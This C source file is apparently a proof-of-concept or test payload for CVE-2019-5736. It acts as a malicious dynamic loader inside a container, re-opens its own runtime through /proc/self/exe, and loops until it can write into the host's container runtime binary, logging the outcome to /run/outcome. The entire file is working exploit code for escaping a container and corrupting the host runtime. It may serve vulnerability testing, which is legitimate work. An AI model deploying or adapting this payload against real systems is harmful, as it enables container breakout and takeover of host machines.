/* What a hostile machine plants as its dynamic loader, while its /bin/sh is a link to /proc/self/exe: whoever starts that shell
   executes its own program anew, with this as the loader. It keeps the program open, lets everybody who runs it end, and
   writes to it then (CVE-2019-5736). Without a C library, because a loader cannot have one. x86-64 only. */
static long call(long number, long a, long b, long c) {
  long result;
  __asm__ volatile("syscall" : "=a"(result) : "a"(number), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return result;
}

enum { WRITE = 1, OPEN = 2, NANOSLEEP = 35, FORK = 57, EXECVE = 59, EXIT = 60, SETSID = 112 };
enum { WRITE_APPEND = 02001, CREATE_WRITE = 01101, TEXT_BUSY = 26 };

static void report(const char *text, long length) {
  call(WRITE, call(OPEN, (long)"/run/outcome", CREATE_WRITE, 0644), (long)text, length);
}

static void overwrite(void) {
  long tenth[2] = {0, 100000000};
  for (int round = 0; round < 50; round++) {
    long file = call(OPEN, (long)"/proc/self/fd/9", WRITE_APPEND, 0);
    if (file >= 0) return call(WRITE, file, (long)"taken over", 10), report("taken", 5);
    if (file != -TEXT_BUSY) return report("refused", 7);
    call(NANOSLEEP, (long)tenth, 0, 0);
  }
  report("busy", 4);
}

__attribute__((used)) void begin(long *stack) {
  const char *name = (const char *)stack[1];
  if (name[0] == '+') {
    call(SETSID, 0, 0, 0);
    if (call(FORK, 0, 0, 0) == 0) overwrite();
  } else {
    const char *again[] = {"+", 0};
    call(33 /* dup2 */, call(OPEN, (long)"/proc/self/exe", 0, 0), 9, 0);
    call(EXECVE, (long)"/take-over", (long)again, 0);
  }
  call(EXIT, 0, 0, 0);
}

__asm__(".globl _start\n_start: mov %rsp, %rdi\n and $-16, %rsp\n call begin\n");
